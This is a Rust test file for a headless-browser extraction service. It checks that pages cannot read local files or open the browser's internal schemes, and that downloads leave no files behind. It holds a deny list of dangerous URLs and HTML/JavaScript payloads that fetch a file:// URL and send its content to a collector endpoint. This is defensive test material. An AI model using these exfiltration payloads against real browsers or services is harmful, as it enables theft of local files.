//! The browser's internal schemes and those of this machine, such as `file:`: neither pages nor callers see anything of
//! their content.

use std::fs;

use porthole_tests::{Reply, Stack};
use serde_json::json;

use super::visit::PUBLIC_PART;

const SECRET: &str = "a line of a file of this machine";

/// URLs that no page may open; `FILE` is a file that holds [`SECRET`].
const FORBIDDEN: &[&str] = &[
    "file://FILE",
    "file://localhostFILE",
    "file:FILE",
    "view-source:file://FILE",
    "filesystem:file://FILE",
    "chrome://version/",
    "chrome://gpu/",
    "chrome://inspect/",
    "chrome://net-internals/#dns",
    "chrome-untrusted://terminal/",
    "chrome-search://local-ntp/",
    "chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/index.html",
    "devtools://devtools/bundled/inspector.html",
    "about:version",
    "about:gpu",
    "view-source:http://127.0.0.1/",
    "ftp://127.0.0.1/",
    "mailto:nobody@example.com",
    "tel:0",
    "intent://127.0.0.1/#Intent;scheme=http;end",
    "ms-msdt:/id",
    "ssh://127.0.0.1/",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_page_opens_a_file_or_a_page_of_the_browsers_own() {
    let stack = Stack::with().setting("PORTHOLE_MAX_CONCURRENT", "6").start().await;
    let file = stack.home.home().join("secret.html");
    fs::write(&file, SECRET).unwrap();
    let told = stack.site.page(Reply::text("").header("access-control-allow-origin", "*"));
    let urls = FORBIDDEN.iter().map(|url| url.replace("FILE", file.to_str().unwrap()));
    let visits = urls.map(async |url| {
        let ways = [
            format!("<iframe src='{url}'></iframe><object data='{url}'></object><embed src='{url}'><img src='{url}'>"),
            format!("<script>location = '{url}'</script>"),
            format!("<meta http-equiv=refresh content=\"0; url={url}\">"),
            format!("<a href='{url}'>.</a><script>document.querySelector('a').click(); window.open('{url}')</script>"),
            format!("<iframe name=f></iframe><script>frames.f.location = '{url}'</script>"),
            format!(
                "<script>const tell = text => fetch('{told}?' + encodeURIComponent(text));
                fetch('{url}').then(r => r.text()).then(tell).catch(() => 0);
                const x = new XMLHttpRequest; x.onload = () => tell(x.responseText);
                try {{ x.open('GET', '{url}'); x.send() }} catch {{}}
                try {{ new Worker('{url}') }} catch {{}}</script><script src='{url}'></script>"
            ),
        ];
        for way in ways {
            let page = stack.site.html(&format!("<p>{PUBLIC_PART}</p>{way}"));
            let answer = stack.extract(json!({"url": page})).await;
            // A page that navigates there itself is an error; any other is shown without that content.
            match answer.code().as_deref() {
                None => assert!(answer.content().starts_with(PUBLIC_PART), "{way}\n{answer:?}"),
                // For some URLs the browser shows a blank page instead.
                Some("EMPTY_EXTRACTION") => {}
                Some(_) => drop(answer.expect_code("INVALID_URL")),
            }
            assert!(!String::from_utf8_lossy(&answer.body).contains(SECRET), "{way}\n{answer:?}");
        }
        let redirect = stack.site.page(Reply::redirect(302, &url));
        let answer = stack.extract(json!({"url": redirect})).await;
        assert!(matches!(answer.code().as_deref(), Some("NAVIGATION_FAILED" | "INVALID_URL")), "{url}\n{answer:?}");
        stack.extract(json!({"url": url})).await.expect_code("INVALID_URL");
    });
    futures_util::future::join_all(visits).await;
    for seen in stack.site.seen(&told) {
        assert!(!seen.uri.to_string().contains("file"), "a page read the file: {}", seen.uri);
    }
    // Positive control: a page that may read a text reports it.
    let open = stack.site.page(Reply::text("open to all"));
    let page = stack.site.html(&format!(
        "<script>fetch('{open}').then(r => r.text()).then(text => fetch('{told}?' + encodeURIComponent(text)))</script>."
    ));
    stack.extract(json!({"url": page})).await.expect_ok();
    assert!(stack.site.seen(&told).iter().any(|seen| seen.uri.to_string().contains("open")));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn downloads_and_prints_of_a_page_leave_nothing() {
    let stack = Stack::start().await;
    let before = stack.home.left_in_temp();
    let file = stack.site.page(
        Reply::of("application/octet-stream", "x".repeat(1000))
            .header("content-disposition", "attachment; filename=x.bin"),
    );
    for way in [
        format!("<a download=x.bin href='{file}'></a><script>document.querySelector('a').click()</script>"),
        format!("<iframe src='{file}'></iframe>"),
        "<a download=x.txt href='data:text/plain,x'></a><script>document.querySelector('a').click()</script>"
            .to_owned(),
        "<a download=y.txt></a><script>const a = document.querySelector('a');
            a.href = URL.createObjectURL(new Blob(['x'])); a.click()</script>"
            .to_owned(),
        "<script>print(); setTimeout(print, 100)</script>".to_owned(),
    ] {
        let page = stack.site.html(&format!("<p>{PUBLIC_PART}</p>{way}"));
        let answer = stack.extract(json!({"url": page})).await;
        assert!(answer.content().starts_with(PUBLIC_PART), "{way}\n{answer:?}");
    }
    let found: Vec<String> = files_under(&stack.home.temp()).chain(files_under(&stack.home.home())).collect();
    let kept: Vec<&String> = found
        .iter()
        .filter(|path| [".bin", ".txt", ".pdf", ".crdownload"].iter().any(|end| path.ends_with(end)))
        .collect();
    // A license text of the browser would match, too, but the profile has none.
    assert!(kept.is_empty(), "{kept:?}");
    assert_eq!(stack.home.left_in_temp(), before);
}

fn files_under(folder: &std::path::Path) -> Box<dyn Iterator<Item = String>> {
    let Ok(entries) = fs::read_dir(folder) else { return Box::new(std::iter::empty()) };
    Box::new(entries.flatten().flat_map(|entry| {
        let path = entry.path();
        let is_folder = entry.file_type().is_ok_and(|kind| kind.is_dir());
        if is_folder { files_under(&path) } else { Box::new(std::iter::once(path.display().to_string())) }
    }))
}
